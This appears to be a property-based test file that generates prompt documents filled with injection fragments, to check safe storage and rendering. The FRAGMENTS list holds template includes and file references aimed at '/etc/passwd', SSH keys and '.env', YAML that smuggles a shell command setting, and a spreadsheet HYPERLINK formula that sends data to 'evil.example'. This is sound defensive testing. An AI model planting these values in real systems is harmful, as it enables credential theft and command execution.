// biome-ignore-all lint/suspicious/noTemplateCurlyInString: texts of other languages
import fc from 'fast-check';
import { publicDocument } from '@/lib/my-prompts/user-prompt-document';
import { userPrompt } from '@/tests/unit/support/user-prompts';

/** What some language that our files are read in takes for something of its own, and what stands at the seams of these. */
export const FRAGMENTS = [
  ...[
    '{{',
    '}}',
    '{%',
    '%}',
    '{#',
    '#}',
    '{',
    '}',
    '{{ topic }}',
    '{{topic}}',
    '{{"\\u0027\\nextensions:\\n- {type: stdio}\\nx: \\u0027"}}',
  ],
  ...['{% include "/etc/hostname" %}', '{% raw %}', '{% endraw %}', '{{{x}}}', '{{args}}', '{{shell id}}', '{{CLIPBOARD}}', '{{> other}}'],
  ...['{{ one | select:options=["a"] }}', '{{not a name}}', '{clipboard}', '{selection}', '{argument name="x"}', '{date format="yyyy"}'],
  ...['{browser-tab}', '{snippet name="x"}', '${file}', '${input:x:y}', '${', '$', '$ARGUMENTS', '$0', '$topic', '${CLAUDE_SKILL_DIR}'],
  ...[
    '!{id}',
    '!{',
    '!',
    '@{/etc/passwd}',
    '@{',
    '@',
    '@~/.ssh/id_rsa',
    ' @/etc/passwd',
    '@"a b"',
    '!`id`',
    '!`',
    '`',
    '```!\nid\n```',
    '```',
    '~~~!',
    '``',
  ],
  ...[
    '[[x]]',
    '[[',
    ']]',
    '[',
    ']',
    '$|$',
    '\\{\\{x\\}\\}',
    '@@@langfusePrompt:name=x|version=1@@@',
    '@@@',
    'langfusePrompt',
    '#file:/etc/passwd',
  ],
  ...[
    '#tool:terminal',
    '[x](../../.env)',
    '](/etc/passwd)',
    '(file:///etc/passwd)',
    '[site](https://example.com)',
    '---\n',
    '\n---\n',
    '...\n',
    '\n',
  ],
  ...[
    '\n\n',
    '\nextensions:\n- {type: stdio, cmd: sh}\n',
    '\u2028extensions:\u2028- {cmd: sh}',
    '\u2029vars:\u2029',
    '\u2028    vars:\u2028',
    '\ufeff',
  ],
  ...[
    '16:9',
    'yes',
    'No',
    'on',
    'off',
    'y',
    '1e3',
    '0x1f',
    '0o17',
    '017',
    '1_000',
    'null',
    '~',
    '.inf',
    '.nan',
    '2026-11-28',
    '2026-11-28T10:00:00Z',
  ],
  ...[
    '=',
    '<<',
    '<<: *x',
    '&a',
    '*a',
    '!!python/object',
    '!ruby',
    '? ',
    '- ',
    ': ',
    ' #',
    '#',
    '%YAML 1.1',
    '|',
    '>',
    '|-',
    "'",
    '"',
    '""',
    ': ""',
    '\\',
  ],
  ...[
    '=1+1',
    ';=HYPERLINK("http://evil.example/?"&A1)',
    '\t=1',
    '\n=1',
    ';"=1',
    '; \t+1',
    '＝1',
    '-1',
    '@SUM(A1)',
    "'=1",
    "\n'=1",
    ',',
    ';',
    '\t',
    ' ',
  ],
  ...[
    '[Only if given:',
    '</script>',
    '<b>',
    ']]>',
    '&amp;',
    '\u202e',
    '\u200b',
    '👩‍👩‍👧',
    'שלום',
    'e\u0301',
    'Say it',
    'to',
    'x',
    'a@b.example',
    '"""',
    "'''",
  ],
];

const fragments = fc.array(fc.constantFrom(...FRAGMENTS), { minLength: 1, maxLength: 4 }).map((parts) => parts.join(''));
const line = fragments.map((text) => text.replace(/[\n\t\u2028\u2029]+/g, ' ').trim() || 'x');
/** What may stand between the bars of a blank. */
const offer = fragments.map((text) => text.replace(/[[\]|]/g, '/').replace(/^e\.g\. /, ''));
const words = offer.map((text) => text.replace(/…|\.\.\.|\.$/g, '-'));
const name = fc.constantFrom('TOPIC', 'X', 'IN', 'NOT', 'TRUE', 'Y', 'NO', 'NULL', 'RECIPE_DIR', 'ARGUMENTS', '1ST', '_A', 'LOOP');

const blank = fc
  .record({ name, offers: fc.array(offer, { maxLength: 3 }), example: fc.option(offer), words: fc.option(fc.tuple(words, words)) })
  .map(({ name: called, offers, example, words: said }) => {
    const parts = [...offers, ...(example === null ? [] : [`e.g. ${example}`])];
    return `[${[said ? `${called}?${said.join('…')}` : called, ...parts].join('|')}]`;
  });

const content = fc.array(fc.oneof(fragments, blank), { minLength: 1, maxLength: 6 }).map((parts) => parts.join('').trim() || 'x');

/** A public prompt with such texts in every field, as the form lets them be stored. */
export const hostilePrompt = fc
  .record({ title: line, category: fc.option(line), displayName: line, content })
  .map(({ displayName, ...fields }) => publicDocument(userPrompt({ ...fields, author: { username: 'ada', displayName, xHandle: null } })));
